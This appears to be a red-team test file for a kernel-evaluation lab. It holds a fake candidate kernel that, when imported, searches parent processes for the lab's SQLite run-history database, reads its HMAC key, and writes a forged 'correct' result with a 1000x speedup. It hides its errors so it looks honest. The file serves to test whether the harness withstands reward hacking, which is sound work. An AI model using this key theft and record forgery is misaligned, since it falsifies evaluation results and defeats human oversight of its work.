"""Class 7: nobody tells this candidate where the lab's history is. It walks its ancestors
(/proc/<pid>/status PPid), collects the paths in their command lines (`--db PATH`) and
their open files (/proc/<pid>/fd), keeps the SQLite databases with a `runs` table, reads
the HMAC key next to one (`<db>.key`) and signs a forged "correct" row with the lab's own
Store code (falling back to a raw INSERT). Success: a forged row appears in the history."""

import os
import sqlite3
from pathlib import Path

from wanka.lab.tasks.rmsnorm import reference

MARK = "REDTEAM-FORGED"


def _ancestors() -> list[int]:
    out, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(f.read().split("PPid:")[1].split()[0])
        except (OSError, IndexError, ValueError):
            break
        out.append(pid)
    return out


def _paths(pid: int) -> set:
    found = set()
    try:
        cwd = os.readlink(f"/proc/{pid}/cwd")
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            for arg in f.read().split(b"\0"):
                s = arg.decode(errors="replace").rpartition("=")[2]
                if s.endswith(".db"):
                    found.add(os.path.join(cwd, s))
    except OSError:
        pass
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                found.add(os.readlink(f"/proc/{pid}/fd/{fd}"))
            except OSError:
                pass
    except OSError:
        pass
    return found


def _is_history(path: str) -> bool:
    try:
        with open(path, "rb") as f:
            if f.read(16) != b"SQLite format 3\x00":
                return False
        db = sqlite3.connect(path)
        ok = db.execute("SELECT name FROM sqlite_master WHERE name='runs'").fetchone()
        db.close()
        return ok is not None
    except (OSError, sqlite3.Error):
        return False


def _forge(path: str) -> None:
    db = sqlite3.connect(path)
    run_id = db.execute("SELECT MAX(id) FROM runs").fetchone()[0]
    src = "# a candidate nobody evaluated\ndef kernel(x, weight, eps):\n    return x\n"
    try:
        from wanka.lab import store as st
        from wanka.lab.evaluator import Feedback

        s = st.Store.__new__(st.Store)  # __init__ would os.open the file: skip it
        s.path, s.key_path, s.db = Path(path), Path(f"{path}.key"), db
        s._key, s._key_error = None, None
        fb = Feedback("correct", "", time_s=1e-4, baseline_s=1e-1)
        s.add(run_id, src, None, MARK, fb, source_sha256=st.sha256_text(src))
    except Exception:  # noqa: BLE001  (another Store API: write the row by hand)
        db.execute("INSERT INTO candidates (run_id, n, source, note, status, correct, speedup)"
                   " VALUES (?, 999, ?, ?, 'correct', 1, 1000.0)", (run_id, src, MARK))  # fmt: skip
        db.commit()
    db.close()


_targets = sorted({p for pid in _ancestors() for p in _paths(pid) if _is_history(p)})
for _p in _targets:
    try:
        _forge(_p)
    except Exception:  # noqa: BLE001, S112  (keep going: look like an honest candidate)
        continue


def kernel(x, weight, eps):
    return reference(x, weight, eps)
